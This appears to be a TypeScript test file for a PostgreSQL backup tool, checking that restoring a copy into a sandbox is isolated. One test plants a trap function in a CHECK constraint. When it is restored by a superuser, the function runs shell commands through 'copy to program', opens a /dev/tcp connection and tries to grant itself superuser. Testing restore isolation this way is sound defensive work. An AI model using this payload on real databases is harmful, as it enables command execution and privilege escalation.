import { once } from 'node:events';
import { chmod, readdir, readFile, symlink } from 'node:fs/promises';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SourceReader } from '../../../core/backup/reader.ts';
import { StewardError } from '../../../core/errors.ts';
import { makeCopy } from '../../../testing/backup/make-copy.ts';
import { openShop, type PostgresShop } from '../../../testing/backup/postgres-shop.ts';
import { nobody, startPostgres, type TestPostgres } from '../../../testing/world/postgres.ts';
import { tempFolder } from '../../../testing/world/temp-folder.ts';
import { createPrograms } from '../../programs/index.ts';
import { createPostgresSource } from './index.ts';

const doing = { signal: new AbortController().signal };
const programs = createPrograms({ environment: { PATH: process.env['PATH'] } });
let shop: PostgresShop;
beforeAll(async () => {
  shop = await openShop((deps) => createPostgresSource({ programs, ...deps }));
}, 120_000);
afterAll(async () => await shop?.close());

/** A reader on a machine that has the clients of PostgreSQL and no server. */
async function withoutServer(of: TestPostgres): Promise<{ by: SourceReader<'postgres'>; remove(): Promise<void> }> {
  const bare = await tempFolder('stw-bare');
  for (const name of ['pg_dump', 'pg_dumpall', 'pg_restore', 'psql'])
    await symlink(`/usr/lib/postgresql/15/bin/${name}`, join(bare.path, name));
  const by = createPostgresSource({
    programs,
    ...shop.deps,
    secrets: async () => of.password,
    folders: async () => [bare.path],
  });
  return { by, remove: bare.remove };
}

describe('a throw-away place of PostgreSQL', () => {
  it('is a database nobody has where this machine has no server to start, and is removed', async () => {
    const { by, remove } = await withoutServer(shop.server);
    await shop.server.say(
      'postgres',
      `create role tester login createdb password '${shop.server.password}' in role pg_read_all_settings`,
    );
    const { host, port } = shop.server;
    const of = shop.source({
      databases: ['shop'],
      drillOn: { host, port, user: 'tester', password: { env: 'PASSWORD' } },
      assertions: [{ name: 'accounts are there', sql: 'select count(*) = 200 from accounts' }],
    });
    const copy = await makeCopy(by, of, shop.store, doing);
    const sandbox = await by.sandbox(of, copy, { scratch: shop.scratch, owner: 'drill-4', beside: 'seen' }, doing);
    expect(sandbox.restore).toMatchObject({
      ok: true,
      statement: expect.stringContaining('into throw-away databases on'),
    });
    expect(sandbox.standIn?.own).toBe(false);
    // What belongs to no table only a superuser may read.
    expect(await sandbox.content(doing)).toMatchObject({ ok: true, unsure: { count: 1 } });
    expect((await sandbox.assertions(doing)).layers.map(({ ok }) => ok)).toEqual([true]);
    const left = async () =>
      (
        await shop.server.say(
          'postgres',
          "select datname as name from pg_database where datname like 'steward_restore_%'",
        )
      ).length;
    expect(await left()).toBe(1);
    // Its maker is gone: found by its owner, and by nobody else's.
    expect(await by.sweep(new Set(['drill-5']), shop.scratch, doing)).toEqual([]);
    expect(await by.sweep(new Set(['drill-4']), shop.scratch, doing)).toHaveLength(1);
    expect(await left()).toBe(0);
    await sandbox.end();
    await remove();
  }, 120_000);

  it.skipIf(process.getuid?.() !== 0)(
    'is not beside the original where its disk could fill up, where nobody sees how full it is, or where nobody wants it there',
    async () => {
      await using small = await startPostgres({ max_wal_size: '32MB', min_wal_size: '32MB' }, { disk: '130m' });
      const { by, remove } = await withoutServer(small);
      await small.say(
        'postgres',
        'create database shop',
        "create role plain login createdb password 's3cret \\ word'",
        'grant pg_read_all_data to plain',
      );
      await small.say(
        'shop',
        'create table orders (id int primary key, what text)',
        'insert into orders select i, md5(i::text) from generate_series(1, 200000) i',
        'checkpoint',
      );
      await small.say('postgres', 'grant pg_read_all_settings to plain');
      const at = (user: string) => {
        const password = { env: 'PASSWORD' };
        const { host, port } = small;
        return shop.source({ host, port, user, databases: ['shop'], password });
      };
      const copy = await makeCopy(by, at('postgres'), shop.store, doing);
      const tried = async (user: string, beside?: 'seen' | 'never') =>
        await by.sandbox(at(user), copy, { scratch: shop.scratch, owner: 'drill-7', beside }, doing).then(
          (sandbox) => sandbox.end().then(() => 'it was restored'),
          (thrown: unknown) => `${StewardError.from(thrown).code}: ${StewardError.from(thrown).message}`,
        );
      expect(await tried('plain')).toMatch(/^DISK_FULL: A throw-away copy needs about \d+ MB in .*data/);
      expect(await tried('plain', 'seen')).toContain('DISK_FULL');
      await small.say('postgres', 'revoke pg_read_all_settings from plain');
      expect(await tried('plain', 'seen')).toMatch(/^PRECONDITION_FAILED: .*cannot be seen from here/);
      expect(await tried('postgres')).toMatch(/^PRECONDITION_FAILED: .*as the superuser postgres/);
      expect(await tried('postgres', 'never')).toContain('NOT_IMPLEMENTED');
      expect(await small.say('postgres', "select from pg_database where datname like 'steward%'")).toEqual([]);
      expect(await readdir(shop.scratch)).toEqual([]);
      await remove();
    },
    120_000,
  );

  it.skipIf(process.getuid?.() !== 0)(
    'lets code of the copy do nothing: it is nobody beside the original, and elsewhere somebody without a network who owns nothing',
    async () => {
      await using folder = await tempFolder('stw-evil');
      await chmod(folder.path, 0o777);
      const heard = createServer().listen(0, '127.0.0.1');
      await once(heard, 'listening');
      let connections = 0;
      heard.on('connection', (socket) => {
        connections += 1;
        socket.destroy();
      });
      const { port } = heard.address() as AddressInfo;
      const wrote = join(folder.path, 'wrote');
      const command = `id -u > ${wrote}; chmod 666 ${wrote}; echo > /dev/tcp/127.0.0.1/${port}`;
      await shop.server.say(
        'postgres',
        `create role app login password '${shop.server.password}'`,
        'create database app owner app',
      );
      await shop.server.say(
        'app',
        'grant create on schema public to app',
        'set role app',
        `create function evil(i int) returns boolean language plpgsql as $f$ begin
           if current_setting('is_superuser') = 'on' then
             execute $x$copy (select 1) to program 'bash -c "${command}" 2> /dev/null || true'$x$;
             begin execute 'alter role app superuser'; exception when others then null; end;
           end if;
           return true;
         end $f$`,
        'create table trap (i int check (evil(i)))',
        'insert into trap values (1)',
      );
      const of = shop.source({ databases: ['app'] });
      const copy = await makeCopy(shop.reader, of, shop.store, doing);

      const { by, remove } = await withoutServer(shop.server);
      await expect(
        by.sandbox(of, copy, { scratch: shop.scratch, owner: 'drill-8', beside: 'seen' }, doing),
      ).rejects.toMatchObject({
        code: 'PRECONDITION_FAILED',
      });
      await remove();
      expect(await readdir(folder.path)).toEqual([]);

      const sandbox = await shop.reader.sandbox(of, copy, { scratch: shop.scratch, owner: 'drill-9' }, doing);
      expect(sandbox.restore).toMatchObject({ ok: true });
      await sandbox.end();
      // It ran, as it does wherever the copy is restored.
      expect(Number(await readFile(wrote, 'utf8'))).toBe(nobody?.uid);
      expect(connections).toBe(0);
      expect(await shop.server.say('postgres', "select rolsuper as is from pg_roles where rolname = 'app'")).toEqual([
        { is: false },
      ]);
      heard.close();
    },
    120_000,
  );
});
